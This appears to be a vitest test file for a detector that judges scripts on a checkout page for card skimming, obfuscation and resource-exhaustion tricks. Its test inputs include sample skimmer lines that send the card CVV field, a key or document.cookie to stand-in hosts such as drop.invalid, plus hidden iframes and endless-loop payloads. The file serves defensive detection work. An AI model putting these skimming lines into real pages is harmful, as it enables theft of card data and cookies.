import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { judgeScript } from '../../../src/checks/script/judge/judge.ts';
import { severityOf, type Verdict } from '../../../src/checks/script/judge/verdict.ts';
import { benignScripts } from './benign-scripts.ts';
import { base64Layer, charCodes, packed, rotatedList } from './encoders.ts';
import { maliciousScripts } from './malicious-scripts.ts';

const page = { url: new URL('https://shop.example/checkout'), isInline: true, ownHosts: ['shop.example'] };

function aboveLow(verdicts: readonly Verdict[]): readonly string[] {
  return verdicts
    .filter(({ score }) => !['info', 'low'].includes(severityOf(score)))
    .map(({ rule, evidence }) => `${rule}: ${evidence.join('; ')}`);
}

describe('a script of an attacker', () => {
  it.each(maliciousScripts)('is found where it $name', ({ text, host }) => {
    const found = aboveLow(judgeScript(text, page).verdicts);
    expect(found.join('\n')).toContain(host);
  });

  it.each(['charCodes', 'base64Layer', 'rotatedList'] as const)(
    'tells its host when %s hides it',
    (encoding) => {
      const encode = { charCodes, base64Layer, rotatedList }[encoding];
      const text = encode(
        "fetch('https://drop.invalid/x', { method: 'POST', body: document.querySelector('#cvv').value });",
      );
      const [verdict] = judgeScript(text, page).verdicts;
      expect(verdict?.evidence.join('; ')).toMatch(
        /sends what is typed into card fields to drop\.invalid by fetch.*the host drop\.invalid stands in the script in encoded form only/,
      );
    },
  );
});

describe('an honest script', () => {
  it.each(benignScripts)('is not above low: $name', ({ text }) => {
    expect(aboveLow(judgeScript(text, page).verdicts)).toEqual([]);
  });

  it.each(['htmlparser2', 'undici', 'valibot', 'tldts', 'commander', 'fast-check', 'meriyah'])(
    'is not above low: %s as it is published',
    (name) => {
      const file = createRequire(import.meta.url).resolve(name);
      const text = readFileSync(file, 'utf8');
      expect(aboveLow(judgeScript(text, page).verdicts)).toEqual([]);
      expect(aboveLow(judgeScript(packed(text.slice(0, 30_000)), page).verdicts)).toEqual([]);
    },
  );

  it('is worth a note alone when nobody can read it', () => {
    const verdicts = judgeScript(rotatedList("console.log('a'); console.log('b');"), page).verdicts;
    expect(verdicts.map(({ rule, score }) => [rule, severityOf(score)])).toEqual([
      ['script-obfuscated', 'info'],
    ]);
  });
});

describe('following a script', () => {
  it.each([
    ['a loop without end', 'for (;;) { var a = 1; } fetch("https://x.invalid/" + document.cookie);'],
    ['a recursion without end', 'function f(a) { return f(a + 1) + f(a + 2); } f(0);'],
    ['a text that doubles', 'var a = "aaaaaaaaaaaaaaaa"; while (true) { a += a; }'],
    ['a list that holds itself', 'var a = [1, 2]; a.push(a); a.push(a); var b = "" + a; eval(b);'],
    ['a pattern that backtracks', `/^(((a+)+)+)+$/.test("${'a'.repeat(5000)}!"); eval("1");`],
    ['code in code in code', 'var c = "eval(c)"; eval(c); setInterval(c, 1); new Function(c)();'],
    [
      'hidden frames behind the last step',
      "for (;;) { var f = document.createElement('iframe'); f.src = 'https://x.invalid/'; f.width = 0; }",
    ],
    ['a list that is spread into itself', 'var a = [1]; while (true) { a = [...a, ...a]; }'],
    ['deep brackets', `${'['.repeat(20_000)}atob("")`],
    ['a tower of functions', `eval(${'(function(){return '.repeat(2000)}1${'})()'.repeat(2000)})`],
  ])('ends for %s', (_, text) => {
    expect(judgeScript(`${text}\n// input fetch`, page).verdicts.length).toBeLessThan(5);
  });

  it('runs nothing of it', () => {
    judgeScript(
      `globalThis.leaked = 1; process.env.LEAKED = '1'; ([]).constructor.constructor('globalThis.leaked = 2')();
       ''.constructor.prototype.leaked = 3; Object.prototype.leaked = 4; eval('this.leaked = 5'); fetch(document.cookie);`,
      page,
    );
    expect([Reflect.get(globalThis, 'leaked'), process.env['LEAKED'], Reflect.get({}, 'leaked')]).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
  });

  it('shows no key and no sign that a terminal obeys', () => {
    const key = ['sk', 'live', 'a1'.repeat(12)].join('_');
    const [verdict] = judgeScript(
      `new Image().src = 'https://drop.invalid/\\u001b[31m?k=${key}&d=' + document.querySelector('#cvv').value;`,
      page,
    ).verdicts;
    const told = verdict?.evidence.join('\n') ?? '';
    expect(told).toContain('drop.invalid');
    expect(told).not.toContain(key);
    expect(told).not.toContain('\u001B');
  });
});
